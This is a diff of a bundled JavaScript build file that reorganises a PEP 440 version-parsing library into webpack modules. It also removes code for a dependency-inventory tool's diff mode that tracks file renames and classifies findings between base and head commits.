+      if (res !== 0) {
+        return res;
+      }
+    }
+    return elem.length - other.length;
+  }
+  if (elem === -Infinity || other === Infinity) {
+    return -1;
+  }
+  if (elem === Infinity || other === -Infinity) {
+    return 1;
+  }
+  return elem < other ? -1 : 1;
+}
+
+function calculateKey(input) {
+  const { epoch } = input;
+  let { release, pre, post, local, dev } = input;
+  // When we compare a release version, we want to compare it with all of the
+  // trailing zeros removed. So we'll use a reverse the list, drop all the now
+  // leading zeros until we come to something non zero, then take the rest
+  // re-reverse it back into the correct order and make it a tuple and use
+  // that for our sorting key.
+  release = release.concat();
+  release.reverse();
+  while (release.length && release[0] === 0) {
+    release.shift();
+  }
+  release.reverse();
+
+  // We need to "trick" the sorting algorithm to put 1.0.dev0 before 1.0a0.
+  // We'll do this by abusing the pre segment, but we _only_ want to do this
+  // if there is !a pre or a post segment. If we have one of those then
+  // the normal sorting rules will handle this case correctly.
+  if (!pre && !post && dev) pre = -Infinity;
+  // Versions without a pre-release (except as noted above) should sort after
+  // those with one.
+  else if (!pre) pre = Infinity;
+
+  // Versions without a post segment should sort before those with one.
+  if (!post) post = -Infinity;
+
+  // Versions without a development segment should sort after those with one.
+  if (!dev) dev = Infinity;
+
+  if (!local) {
+    // Versions without a local segment should sort before those with one.
+    local = -Infinity;
+  } else {
+    // Versions with a local segment need that segment parsed to implement
+    // the sorting rules in PEP440.
+    // - Alpha numeric segments sort before numeric segments
+    // - Alpha numeric segments sort lexicographically
+    // - Numeric segments sort numerically
+    // - Shorter versions sort before longer versions when the prefixes
+    //   match exactly
+    local = local.map((i) =>
+      Number.isNaN(Number(i)) ? [-Infinity, i] : [Number(i), ''],
+    );
+  }
+
+  return [epoch, release, pre, post, dev, local];
+}
+
+
+/***/ }),
+
+/***/ 7868:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   Im: () => (/* binding */ validRange),
+/* harmony export */   ib: () => (/* binding */ satisfies),
+/* harmony export */   qg: () => (/* binding */ parse)
+/* harmony export */ });
+/* unused harmony exports RANGE_PATTERN, filter, maxSatisfying, minSatisfying */
+/* harmony import */ var _version_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(92660);
+/* harmony import */ var _operator_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(96502);
+// This file is dual licensed under the terms of the Apache License, Version
+// 2.0, and the BSD License. See the LICENSE file in the root of this repository
+// for complete details.
+
+
+
+
+
+const RANGE_PATTERN = [
+  '(?<operator>(===|~=|==|!=|<=|>=|<|>))',
+  '\\s*',
+  '(',
+  /*  */ '(?<version>(?:' + _version_js__WEBPACK_IMPORTED_MODULE_0__/* .VERSION_PATTERN */ .Q6.replace(/\?<\w+>/g, '?:') + '))',
+  /*  */ '(?<prefix>\\.\\*)?',
+  /*  */ '|',
+  /*  */ '(?<legacy>[^,;\\s)]+)',
+  ')',
+].join('');
+
+
+
+const isEqualityOperator = (op) => ['==', '!=', '==='].includes(op);
+
+const rangeRegex = new RegExp('^' + RANGE_PATTERN + '$', 'i');
+
+function parse(ranges) {
+  if (!ranges.trim()) {
+    return [];
+  }
+
+  const specifiers = ranges
+    .split(',')
+    .map((range) => rangeRegex.exec(range.trim()) || {})
+    .map(({ groups }) => {
+      if (!groups) {
+        return null;
+      }
+
+      let { ...spec } = groups;
+      const { operator, version, prefix, legacy } = groups;
+
+      if (version) {
+        spec = { ...spec, ...(0,_version_js__WEBPACK_IMPORTED_MODULE_0__/* .explain */ .WE)(version) };
+        if (operator === '~=') {
+          if (spec.release.length < 2) {
+            return null;
+          }
+        }
+        if (!isEqualityOperator(operator) && spec.local) {
+          return null;
+        }
+
+        if (prefix) {
+          if (!isEqualityOperator(operator) || spec.dev || spec.local) {
+            return null;
+          }
+        }
+      }
+      if (legacy && operator !== '===') {
+        return null;
+      }
+
+      return spec;
+    });
+
+  if (specifiers.filter(Boolean).length !== specifiers.length) {
+    return null;
+  }
+
+  return specifiers;
+}
+
+function filter(versions, specifier, options = {}) {
+  const filtered = pick(versions, specifier, options);
+  if (filtered.length === 0 && options.prereleases === undefined) {
+    return pick(versions, specifier, { prereleases: true });
+  }
+  return filtered;
+}
+
+function maxSatisfying(versions, range, options) {
+  const found = filter(versions, range, options).sort(Operator.compare);
+  return found.length === 0 ? null : found[found.length - 1];
+}
+
+function minSatisfying(versions, range, options) {
+  const found = filter(versions, range, options).sort(Operator.compare);
+  return found.length === 0 ? null : found[0];
+}
+
+function pick(versions, specifier, options) {
+  const parsed = parse(specifier);
+
+  if (!parsed) {
+    return [];
+  }
+
+  return versions.filter((version) => {
+    const explained = (0,_version_js__WEBPACK_IMPORTED_MODULE_0__/* .explain */ .WE)(version);
+
+    if (!parsed.length) {
+      return explained && !(explained.is_prerelease && !options.prereleases);
+    }
+
+    return parsed.reduce((pass, spec) => {
+      if (!pass) {
+        return false;
+      }
+      return contains({ ...spec, ...options }, { version, explained });
+    }, true);
+  });
+}
+
+function satisfies(version, specifier, options = {}) {
+  const filtered = pick([version], specifier, options);
+
+  return filtered.length === 1;
+}
+
+function arrayStartsWith(array, prefix) {
+  if (prefix.length > array.length) {
+    return false;
+  }
+
+  for (let i = 0; i < prefix.length; i += 1) {
+    if (prefix[i] !== array[i]) {
+      return false;
+    }
+  }
+
+  return true;
+}
+
+function contains(specifier, input) {
+  const { explained } = input;
+  let { version } = input;
+  const { ...spec } = specifier;
+
+  if (spec.prereleases === undefined) {
+    spec.prereleases = spec.is_prerelease;
+  }
+
+  if (explained && explained.is_prerelease && !spec.prereleases) {
+    return false;
+  }
+
+  if (spec.operator === '~=') {
+    let compatiblePrefix = spec.release.slice(0, -1).concat('*').join('.');
+    if (spec.epoch) {
+      compatiblePrefix = spec.epoch + '!' + compatiblePrefix;
+    }
+    return satisfies(version, `>=${spec.version}, ==${compatiblePrefix}`, {
+      prereleases: spec.prereleases,
+    });
+  }
+
+  if (spec.prefix) {
+    const isMatching =
+      explained.epoch === spec.epoch &&
+      arrayStartsWith(explained.release, spec.release);
+    const isEquality = spec.operator !== '!=';
+    return isEquality ? isMatching : !isMatching;
+  }
+
+  if (explained && explained.local && spec.version) {
+    // Ignore candidate local labels only when the specifier itself is public.
+    if (spec.operator !== '===' && !spec.local) {
+      version = explained.public;
+      spec.version = (0,_version_js__WEBPACK_IMPORTED_MODULE_0__/* .explain */ .WE)(spec.version).public;
+    }
+  }
+
+  if (spec.operator === '<' || spec.operator === '>') {
+    // simplified version of https://www.python.org/dev/peps/pep-0440/#exclusive-ordered-comparison
+    if (_operator_js__WEBPACK_IMPORTED_MODULE_1__.eq(spec.release.join('.'), explained.release.join('.'))) {
+      return false;
+    }
+  }
+
+  // TODO: fix me?
+  // eslint-disable-next-line import-x/namespace
+  const op = _operator_js__WEBPACK_IMPORTED_MODULE_1__[spec.operator];
+  return op(version, spec.version || spec.legacy);
+}
+
+function validRange(specifier) {
+  return Boolean(parse(specifier));
+}
+
+
+/***/ }),
+
+/***/ 92660:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   As: () => (/* binding */ stringify),
+/* harmony export */   Q6: () => (/* binding */ VERSION_PATTERN),
+/* harmony export */   WE: () => (/* binding */ explain),
+/* harmony export */   qg: () => (/* binding */ parse),
+/* harmony export */   rZ: () => (/* binding */ valid)
+/* harmony export */ });
+/* unused harmony export clean */
 const VERSION_PATTERN = [
   'v?',
   '(?:',
@@ -85727,7 +87965,7 @@ function parse_local_version(local) {
   return null;
 }
 
-function version_explain(version) {
+function explain(version) {
   const parsed = parse(version);
   if (!parsed) {
     return parsed;
@@ -85760,503 +87998,6 @@ function version_explain(version) {
     is_postrelease,
   };
 }
-
-;// CONCATENATED MODULE: ./node_modules/@renovatebot/pep440/lib/operator.js
-
-
-
-
-function lt(version, other) {
-  return compare(version, other) < 0;
-}
-
-function le(version, other) {
-  return compare(version, other) <= 0;
-}
-
-function eq(version, other) {
-  return compare(version, other) === 0;
-}
-
-function ne(version, other) {
-  return compare(version, other) !== 0;
-}
-
-function ge(version, other) {
-  return compare(version, other) >= 0;
-}
-
-function gt(version, other) {
-  return compare(version, other) > 0;
-}
-
-function arbitrary(version, other) {
-  return version.toLowerCase() === other.toLowerCase();
-}
-
-function compare(version, other) {
-  const parsedVersion = parse(version);
-  const parsedOther = parse(other);
-
-  const keyVersion = calculateKey(parsedVersion);
-  const keyOther = calculateKey(parsedOther);
-
-  return pyCompare(keyVersion, keyOther);
-}
-
-function rcompare(version, other) {
-  return -compare(version, other);
-}
-
-// this logic is buitin in python, but we need to port it to js
-// see https://stackoverflow.com/a/5292332/1438522
-function pyCompare(elemIn, otherIn) {
-  let elem = elemIn;
-  let other = otherIn;
-  if (elem === other) {
-    return 0;
-  }
-  if (Array.isArray(elem) !== Array.isArray(other)) {
-    elem = Array.isArray(elem) ? elem : [elem];
-    other = Array.isArray(other) ? other : [other];
-  }
-  if (Array.isArray(elem)) {
-    const len = Math.min(elem.length, other.length);
-    for (let i = 0; i < len; i += 1) {
-      const res = pyCompare(elem[i], other[i]);
-      if (res !== 0) {
-        return res;
-      }
-    }
-    return elem.length - other.length;
-  }
-  if (elem === -Infinity || other === Infinity) {
-    return -1;
-  }
-  if (elem === Infinity || other === -Infinity) {
-    return 1;
-  }
-  return elem < other ? -1 : 1;
-}
-
-function calculateKey(input) {
-  const { epoch } = input;
-  let { release, pre, post, local, dev } = input;
-  // When we compare a release version, we want to compare it with all of the
-  // trailing zeros removed. So we'll use a reverse the list, drop all the now
-  // leading zeros until we come to something non zero, then take the rest
-  // re-reverse it back into the correct order and make it a tuple and use
-  // that for our sorting key.
-  release = release.concat();
-  release.reverse();
-  while (release.length && release[0] === 0) {
-    release.shift();
-  }
-  release.reverse();
-
-  // We need to "trick" the sorting algorithm to put 1.0.dev0 before 1.0a0.
-  // We'll do this by abusing the pre segment, but we _only_ want to do this
-  // if there is !a pre or a post segment. If we have one of those then
-  // the normal sorting rules will handle this case correctly.
-  if (!pre && !post && dev) pre = -Infinity;
-  // Versions without a pre-release (except as noted above) should sort after
-  // those with one.
-  else if (!pre) pre = Infinity;
-
-  // Versions without a post segment should sort before those with one.
-  if (!post) post = -Infinity;
-
-  // Versions without a development segment should sort after those with one.
-  if (!dev) dev = Infinity;
-
-  if (!local) {
-    // Versions without a local segment should sort before those with one.
-    local = -Infinity;
-  } else {
-    // Versions with a local segment need that segment parsed to implement
-    // the sorting rules in PEP440.
-    // - Alpha numeric segments sort before numeric segments
-    // - Alpha numeric segments sort lexicographically
-    // - Numeric segments sort numerically
-    // - Shorter versions sort before longer versions when the prefixes
-    //   match exactly
-    local = local.map((i) =>
-      Number.isNaN(Number(i)) ? [-Infinity, i] : [Number(i), ''],
-    );
-  }
-
-  return [epoch, release, pre, post, dev, local];
-}
-
-;// CONCATENATED MODULE: ./node_modules/@renovatebot/pep440/lib/specifier.js
-// This file is dual licensed under the terms of the Apache License, Version
-// 2.0, and the BSD License. See the LICENSE file in the root of this repository
-// for complete details.
-
-
-
-
-
-const RANGE_PATTERN = [
-  '(?<operator>(===|~=|==|!=|<=|>=|<|>))',
-  '\\s*',
-  '(',
-  /*  */ '(?<version>(?:' + VERSION_PATTERN.replace(/\?<\w+>/g, '?:') + '))',
-  /*  */ '(?<prefix>\\.\\*)?',
-  /*  */ '|',
-  /*  */ '(?<legacy>[^,;\\s)]+)',
-  ')',
-].join('');
-
-
-
-const isEqualityOperator = (op) => ['==', '!=', '==='].includes(op);
-
-const rangeRegex = new RegExp('^' + RANGE_PATTERN + '$', 'i');
-
-function specifier_parse(ranges) {
-  if (!ranges.trim()) {
-    return [];
-  }
-
-  const specifiers = ranges
-    .split(',')
-    .map((range) => rangeRegex.exec(range.trim()) || {})
-    .map(({ groups }) => {
-      if (!groups) {
-        return null;
-      }
-
-      let { ...spec } = groups;
-      const { operator, version, prefix, legacy } = groups;
-
-      if (version) {
-        spec = { ...spec, ...version_explain(version) };
-        if (operator === '~=') {
-          if (spec.release.length < 2) {
-            return null;
-          }
-        }
-        if (!isEqualityOperator(operator) && spec.local) {
-          return null;
-        }
-
-        if (prefix) {
-          if (!isEqualityOperator(operator) || spec.dev || spec.local) {
-            return null;
-          }
-        }
-      }
-      if (legacy && operator !== '===') {
-        return null;
-      }
-
-      return spec;
-    });
-
-  if (specifiers.filter(Boolean).length !== specifiers.length) {
-    return null;
-  }
-
-  return specifiers;
-}
-
-function filter(versions, specifier, options = {}) {
-  const filtered = pick(versions, specifier, options);
-  if (filtered.length === 0 && options.prereleases === undefined) {
-    return pick(versions, specifier, { prereleases: true });
-  }
-  return filtered;
-}
-
-function maxSatisfying(versions, range, options) {
-  const found = filter(versions, range, options).sort(Operator.compare);
-  return found.length === 0 ? null : found[found.length - 1];
-}
-
-function minSatisfying(versions, range, options) {
-  const found = filter(versions, range, options).sort(Operator.compare);
-  return found.length === 0 ? null : found[0];
-}
-
-function pick(versions, specifier, options) {
-  const parsed = specifier_parse(specifier);
-
-  if (!parsed) {
-    return [];
-  }
-
-  return versions.filter((version) => {
-    const explained = version_explain(version);
-
-    if (!parsed.length) {
-      return explained && !(explained.is_prerelease && !options.prereleases);
-    }
-
-    return parsed.reduce((pass, spec) => {
-      if (!pass) {
-        return false;
-      }
-      return contains({ ...spec, ...options }, { version, explained });
-    }, true);
-  });
-}
-
-function satisfies(version, specifier, options = {}) {
-  const filtered = pick([version], specifier, options);
-
-  return filtered.length === 1;
-}
-
-function arrayStartsWith(array, prefix) {
-  if (prefix.length > array.length) {
-    return false;
-  }
-
-  for (let i = 0; i < prefix.length; i += 1) {
-    if (prefix[i] !== array[i]) {
-      return false;
-    }
-  }
-
-  return true;
-}
-
-function contains(specifier, input) {
-  const { explained } = input;
-  let { version } = input;
-  const { ...spec } = specifier;
-
-  if (spec.prereleases === undefined) {
-    spec.prereleases = spec.is_prerelease;
-  }
-
-  if (explained && explained.is_prerelease && !spec.prereleases) {
-    return false;
-  }
-
-  if (spec.operator === '~=') {
-    let compatiblePrefix = spec.release.slice(0, -1).concat('*').join('.');
-    if (spec.epoch) {
-      compatiblePrefix = spec.epoch + '!' + compatiblePrefix;
-    }
-    return satisfies(version, `>=${spec.version}, ==${compatiblePrefix}`, {
-      prereleases: spec.prereleases,
-    });
-  }
-
-  if (spec.prefix) {
-    const isMatching =
-      explained.epoch === spec.epoch &&
-      arrayStartsWith(explained.release, spec.release);
-    const isEquality = spec.operator !== '!=';
-    return isEquality ? isMatching : !isMatching;
-  }
-
-  if (explained && explained.local && spec.version) {
-    // Ignore candidate local labels only when the specifier itself is public.
-    if (spec.operator !== '===' && !spec.local) {
-      version = explained.public;
-      spec.version = version_explain(spec.version).public;
-    }
-  }
-
-  if (spec.operator === '<' || spec.operator === '>') {
-    // simplified version of https://www.python.org/dev/peps/pep-0440/#exclusive-ordered-comparison
-    if (eq(spec.release.join('.'), explained.release.join('.'))) {
-      return false;
-    }
-  }
-
-  // TODO: fix me?
-  // eslint-disable-next-line import-x/namespace
-  const op = operator_namespaceObject[spec.operator];
-  return op(version, spec.version || spec.legacy);
-}
-
-function validRange(specifier) {
-  return Boolean(specifier_parse(specifier));
-}
-
-;// CONCATENATED MODULE: ./node_modules/@renovatebot/pep440/lib/semantic.js
-
-
-// those notation are borrowed from semver
-
-
-function major(input) {
-  const version = explain(input);
-  if (!version) {
-    throw new TypeError('Invalid Version: ' + input);
-  }
-  return version.release[0];
-}
-
-function minor(input) {
-  const version = explain(input);
-  if (!version) {
-    throw new TypeError('Invalid Version: ' + input);
-  }
-  if (version.release.length < 2) {
-    return 0;
-  }
-  return version.release[1];
-}
-
-function patch(input) {
-  const version = explain(input);
-  if (!version) {
-    throw new TypeError('Invalid Version: ' + input);
-  }
-  if (version.release.length < 3) {
-    return 0;
-  }
-  return version.release[2];
-}
-
-function inc(input, release, preReleaseIdentifier) {
-  let identifier = preReleaseIdentifier || `a`;
-  const version = parse(input);
-
-  if (!version) {
-    return null;
-  }
-
-  if (
-    !['a', 'b', 'c', 'rc', 'alpha', 'beta', 'pre', 'preview'].includes(
-      identifier,
-    )
-  ) {
-    return null;
-  }
-
-  switch (release) {
-    case 'premajor':
-      {
-        const [majorVersion] = version.release;
-        version.release.fill(0);
-        version.release[0] = majorVersion + 1;
-      }
-      version.pre = [identifier, 0];
-      delete version.post;
-      delete version.dev;
-      delete version.local;
-      break;
-    case 'preminor':
-      {
-        const [majorVersion, minorVersion = 0] = version.release;
-        version.release.fill(0);
-        version.release[0] = majorVersion;
-        version.release[1] = minorVersion + 1;
-      }
-      version.pre = [identifier, 0];
-      delete version.post;
-      delete version.dev;
-      delete version.local;
-      break;
-    case 'prepatch':
-      {
-        const [majorVersion, minorVersion = 0, patchVersion = 0] =
-          version.release;
-        version.release.fill(0);
-        version.release[0] = majorVersion;
-        version.release[1] = minorVersion;
-        version.release[2] = patchVersion + 1;
-      }
-      version.pre = [identifier, 0];
-      delete version.post;
-      delete version.dev;
-      delete version.local;
-      break;
-    case 'prerelease':
-      if (version.pre === null) {
-        const [majorVersion, minorVersion = 0, patchVersion = 0] =
-          version.release;
-        version.release.fill(0);
-        version.release[0] = majorVersion;
-        version.release[1] = minorVersion;
-        version.release[2] = patchVersion + 1;
-        version.pre = [identifier, 0];
-      } else {
-        if (preReleaseIdentifier === undefined && version.pre !== null) {
-          [identifier] = version.pre;
-        }
-
-        const [letter, number] = version.pre;
-        if (letter === identifier) {
-          version.pre = [letter, number + 1];
-        } else {
-          version.pre = [identifier, 0];
-        }
-      }
-
-      delete version.post;
-      delete version.dev;
-      delete version.local;
-      break;
-    case 'major':
-      if (
-        version.release.slice(1).some((value) => value !== 0) ||
-        version.pre === null
-      ) {
-        const [majorVersion] = version.release;
-        version.release.fill(0);
-        version.release[0] = majorVersion + 1;
-      }
-      delete version.pre;
-      delete version.post;
-      delete version.dev;
-      delete version.local;
-      break;
-    case 'minor':
-      if (
-        version.release.slice(2).some((value) => value !== 0) ||
-        version.pre === null
-      ) {
-        const [majorVersion, minorVersion = 0] = version.release;
-        version.release.fill(0);
-        version.release[0] = majorVersion;
-        version.release[1] = minorVersion + 1;
-      }
-      delete version.pre;
-      delete version.post;
-      delete version.dev;
-      delete version.local;
-      break;
-    case 'patch':
-      if (
-        version.release.slice(3).some((value) => value !== 0) ||
-        version.pre === null
-      ) {
-        const [majorVersion, minorVersion = 0, patchVersion = 0] =
-          version.release;
-        version.release.fill(0);
-        version.release[0] = majorVersion;
-        version.release[1] = minorVersion;
-        version.release[2] = patchVersion + 1;
-      }
-      delete version.pre;
-      delete version.post;
-      delete version.dev;
-      delete version.local;
-      break;
-    default:
-      return null;
-  }
-
-  return stringify(version);
-}
-
-;// CONCATENATED MODULE: ./node_modules/@renovatebot/pep440/index.js
-
-
-
-
-
-
-
-
-
 
 
 /***/ }),
@@ -96421,316 +98162,8 @@ const inventoryJson = {
 var markdown = __nccwpck_require__(54369);
 // EXTERNAL MODULE: external "node:crypto"
 var external_node_crypto_ = __nccwpck_require__(77598);
-// EXTERNAL MODULE: ./src/inventory/engine.ts + 4 modules
-var engine = __nccwpck_require__(1722);
-// EXTERNAL MODULE: ./src/inventory/flows.ts
-var flows = __nccwpck_require__(67037);
-;// CONCATENATED MODULE: ./src/diff/renames.ts
-// Renames between base and head: which head path a base file moved to, so that a move keeps its
-// findings' identity (a move introduces nothing).
-
-function hasBlobIds(s) {
-    return typeof s.blobId === 'function';
-}
-/**
- * Adds the exact moves the known renames do not cover: a changed head file (of `headPaths`: the
- * ones whose pairing can matter) whose content is the content a base file of `basePaths` had,
- * where that base file is gone or changed at head.
- * GitHub's pull-request file list calls two swapped files "modified" (it does not break rewrites
- * as `git diff -B` does), and git does not break two similar files; their contents still pair
- * them. Content is named by blob id where both sources have them, else by a hash of the bytes
- * (at most `maxBytes`; a file that cannot be read pairs nothing). Each path pairs once.
- */
-async function withExactRenames(base, head, headPaths, basePaths, known, maxBytes) {
-    const out = new Map(known);
-    const wanted = [...new Set(headPaths)].filter((p) => !out.has(p)).sort();
-    if (wanted.length === 0)
-        return out;
-    const useIds = hasBlobIds(base) && hasBlobIds(head);
-    const id = async (s, p) => {
-        try {
-            if (useIds) {
-                const v = await s.blobId(p);
-                // A link that cannot be followed is not content.
-                return v === null || v.startsWith('link:') ? null : v;
-            }
-            const bytes = await s.read(p, maxBytes);
-            return bytes === null ? null : (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
-        }
-        catch {
-            return null;
-        }
-    };
-    const takenFrom = new Set(known.values());
-    const headIds = new Map();
-    for (const p of wanted) {
-        const h = await id(head, p);
-        // A file whose content is what it was at base did not move here.
-        if (h !== null && (await id(base, p)) !== h)
-            headIds.set(p, h);
-    }
-    const wantedIds = new Set(headIds.values());
-    const baseIds = new Map();
-    for (const q of [...new Set(basePaths)].sort()) {
-        if (takenFrom.has(q))
-            continue;
-        const b = await id(base, q);
-        // A base file still there unchanged did not move (a copy is not a move).
-        if (b === null || !wantedIds.has(b) || (await id(head, q)) === b)
-            continue;
-        const list = baseIds.get(b);
-        if (list)
-            list.push(q);
-        else
-            baseIds.set(b, [q]);
-    }
-    for (const [p, h] of headIds) {
-        const from = baseIds.get(h)?.find((q) => q !== p && !takenFrom.has(q));
-        if (from === undefined)
-            continue;
-        out.set(p, from);
-        takenFrom.add(from);
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/diff/diff.ts
-// Diff mode: which findings a change introduces, keeps or removes, and which files it changes.
-
-
-
-
-/**
- * The identity of a finding across commits: rule, carrier, version (or the spec written when the
- * version is unknown) and file — never the line, so moving an entry is not introducing it. `file`
- * overrides the finding's own (a head file's path at base, when the change moved it).
- */
-function findingIdentity(f, file = f.location.file) {
-    const c = f.component;
-    return [f.ruleId, c.ecosystem, c.name, c.version === null ? `spec:${c.spec ?? ''}` : c.version, file].join('\u0000');
-}
-/**
- * Marks each head finding `introduced` (no finding of the same identity at base) or `unchanged`,
- * and adds each base finding with no counterpart at head as `removed`. Identities are counted, so
- * a second copy of an existing finding in the same file is introduced. A head finding in a file
- * the change moved (`renames`: head path → base path) is compared with the findings of the file's
- * base path, and says where it moved from (`movedFrom`).
- */
-function classifyFindings(base, head, renames = new Map()) {
-    const remaining = new Map();
-    for (const f of base) {
-        const k = findingIdentity(f);
-        const list = remaining.get(k);
-        if (list)
-            list.push(f);
-        else
-            remaining.set(k, [f]);
-    }
-    const out = [];
-    for (const f of head) {
-        const from = renames.get(f.location.file);
-        const list = remaining.get(findingIdentity(f, from));
-        const status = list && list.length > 0 ? 'unchanged' : 'introduced';
-        if (list && list.length > 0)
-            list.shift();
-        out.push({ ...f, status, ...(from !== undefined ? { movedFrom: from } : {}) });
-    }
-    for (const f of base) {
-        const list = remaining.get(findingIdentity(f));
-        if (list && list.includes(f))
-            out.push({ ...f, status: 'removed' });
-    }
-    return out;
-}
-/**
- * Detects components at head and at base, parsing each unchanged file once: a detector file is
- * re-detected at base only when it changed or when a file it read (`DetectInput.readFile`) did.
- * Reading the same inputs, a detector reads the same files, so the reads recorded at head are the
- * reads it made at base for every file taken as unchanged.
- */
-async function diffInventory(base, head, options = {}) {
-    const { changed: hint, nameFilter, parseEveryFile, renames: knownRenames, ...inventoryOptions } = options;
-    const maxBytes = options.limits?.maxFileBytes ?? 64 * 1024 * 1024;
-    const memo = new Map();
-    const isChanged = (path) => {
-        let p = memo.get(path);
-        if (!p) {
-            p = hint ? Promise.resolve(hint.has(path)) : contentDiffers(base, head, path, maxBytes);
-            memo.set(path, p);
-        }
-        return p;
-    };
-    // The text test first (one search of text already in memory), then whether the file changed:
-    // a changed file is always parsed, so that its errors fail the gate.
-    const namesCovered = (detector, text) => !nameFilter || !detector.namesInText || nameFilter.textMayName(text, detector.namesInText);
-    const headInv = await (0,engine/* inventory */.pf)(head, {
-        ...inventoryOptions,
-        ...(nameFilter && !parseEveryFile
-            ? {
-                shouldParse: async (path, detector, text) => namesCovered(detector, text) || (await isChanged(path)),
-            }
-            : {}),
-    });
-    // A file read through readFile may be one the change list does not cover (an ignored `.env`
-    // on disk in the CLI's work tree): it is compared directly as well.
-    const readMemo = new Map();
-    const isReadChanged = (path) => {
-        let p = readMemo.get(path);
-        if (!p) {
-            p = isChanged(path).then((c) => c || (hint ? contentDiffers(base, head, path, maxBytes) : false));
-            readMemo.set(path, p);
-        }
-        return p;
-    };
-    // The change list names paths as git sees them: a symlink whose target changed is not on it,
-    // nor is anything else git does not track as that path. A file it calls unchanged that holds
-    // a component the policy may match, or an error, is confirmed by its content (few files do).
-    const mayMatter = (r) => r.errors.length > 0 || r.components.some((c) => !nameFilter || nameFilter.mayMatch(c.ecosystem, c.name));
-    const dirty = new Set();
-    for (const [path, result] of headInv.byFile) {
-        if (await isChanged(path)) {
-            dirty.add(path);
-            continue;
-        }
-        if (hint && mayMatter(result) && (await contentDiffers(base, head, path, maxBytes, true))) {
-            dirty.add(path);
-            continue;
-        }
-        for (const read of result.reads) {
-            if (await isReadChanged(read)) {
-                dirty.add(path);
-                break;
-            }
-        }
-    }
-    // Detector files present at base only (deleted or renamed away): scanned at base.
-    const headFiles = new Set(headInv.files);
-    const detectorList = options.detectors;
-    const baseOnly = [];
-    const candidates = hint ? [...hint] : await base.list();
-    for (const path of candidates) {
-        if (headFiles.has(path))
-            continue;
-        if ((0,engine/* detectorsFor */.J9)(path, detectorList).length === 0)
-            continue;
-        baseOnly.push(path);
-    }
-    // Exact moves the change list does not pair, among the changed files whose pairing can matter:
-    // the ones holding a component the policy may match, or an error.
-    const pairable = new Set();
-    for (const [path, result] of headInv.byFile) {
-        if (result.errors.length > 0)
-            pairable.add(path);
-        for (const c of result.components)
-            if (!nameFilter || nameFilter.mayMatch(c.ecosystem, c.name))
-                pairable.add(c.location.file);
-    }
-    const changedPairable = [];
-    for (const p of pairable)
-        if (dirty.has(p) || (await isChanged(p)))
-            changedPairable.push(p);
-    const renames = await withExactRenames(base, head, changedPairable, hint ?? [...dirty, ...baseOnly], knownRenames ?? new Map(), maxBytes);
-    // A moved file that cannot be parsed is compared with its base path's errors, so that path is
-    // parsed at base whatever its text names.
-    const movedWithErrors = new Set();
-    for (const [path, result] of headInv.byFile) {
-        const from = renames.get(path);
-        if (from !== undefined && result.errors.length > 0)
-            movedWithErrors.add(from);
-    }
-    const toScanAtBase = [...new Set([...dirty, ...baseOnly])].sort();
-    // At base, a file that names nothing the policy covers holds no finding to compare with: its
-    // head side's findings (if any) are introduced either way.
-    const baseInv = await (0,engine/* inventory */.pf)(restrictedSource(base, toScanAtBase), {
-        ...inventoryOptions,
-        ...(nameFilter
-            ? {
-                shouldParse: (path, d, text) => namesCovered(d, text) || movedWithErrors.has(path),
-            }
-            : {}),
-    });
-    const errorKey = (file, e) => `${file}\u0000${e.line ?? 0}\u0000${e.message}`;
-    const baseErrorKeys = new Set(baseInv.errors.map((e) => errorKey(e.file, e)));
-    const baseComponents = [...baseInv.components];
-    // An unchanged file is judged on its own at base only when nothing built or ran it there: a
-    // caller added or removed by the change moves its findings between it and the caller.
-    const atBase = new Map();
-    for (const [path, result] of headInv.byFile)
-        if (!dirty.has(path))
-            atBase.set(path, result);
-    for (const [path, result] of baseInv.byFile)
-        atBase.set(path, result);
-    const droppedAtBase = (0,flows/* judgedByCallers */.lj)(atBase);
-    for (const [path, result] of headInv.byFile) {
-        if (dirty.has(path))
-            continue;
-        for (const c of (0,flows/* componentsWhere */.Qp)(result, droppedAtBase.has(path)))
-            baseComponents.push(c);
-    }
-    const headErrors = [];
-    for (const [path, result] of headInv.byFile) {
-        // A file moved with the same error it had at its base path: the error is not new.
-        const from = renames.get(path);
-        for (const e of result.errors) {
-            const fresh = dirty.has(path) && (from === undefined || !baseErrorKeys.has(errorKey(from, e)));
-            headErrors.push({ ...e, status: fresh ? 'introduced' : 'unchanged' });
-        }
-    }
-    return {
-        head: headInv,
-        baseComponents,
-        baseErrors: baseInv.errors,
-        headErrors: sortErrors(headErrors),
-        dirty: [...dirty].sort(),
-        baseFilesScanned: baseInv.filesScanned,
-        notParsed: headInv.notParsed,
-        renames,
-    };
-}
-function sortErrors(errors) {
-    return errors.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : 0) ||
-        (a.line ?? 0) - (b.line ?? 0) ||
-        (a.message < b.message ? -1 : a.message > b.message ? 1 : 0));
-}
-/** A view of a source that lists only the given paths (which may not exist in it). */
-function restrictedSource(source, paths) {
-    return {
-        description: source.description,
-        list: () => Promise.resolve(paths),
-        read: (path, maxBytes) => source.read(path, maxBytes),
-    };
-}
-/**
- * Whether a path differs between the trees: by blob id when both sources have them, else by a
- * hash of the bytes. A path that cannot be read on a side (a symlink out of the tree, too large)
- * counts by its error, so the same unreadable file on both sides is unchanged (it warns) while a
- * newly unreadable one is changed (it fails closed).
- */
-async function contentDiffers(base, head, path, maxBytes, 
-/** Only bytes count: a side that cannot be read leaves the path as the change list has it. */
-readableOnly = false) {
-    const useIds = hasBlobIds(base) && hasBlobIds(head);
-    const [a, b] = await Promise.all([
-        fingerprint(base, path, maxBytes, useIds),
-        fingerprint(head, path, maxBytes, useIds),
-    ]);
-    // The same dangling link reads as "points outside" in git and "does not exist" on disk.
-    if (readableOnly && (a.startsWith('error:') || b.startsWith('error:')))
-        return false;
-    return a !== b;
-}
-async function fingerprint(source, path, maxBytes, useIds) {
-    try {
-        if (useIds)
-            return `id:${(await source.blobId(path)) ?? 'absent'}`;
-        const bytes = await source.read(path, maxBytes);
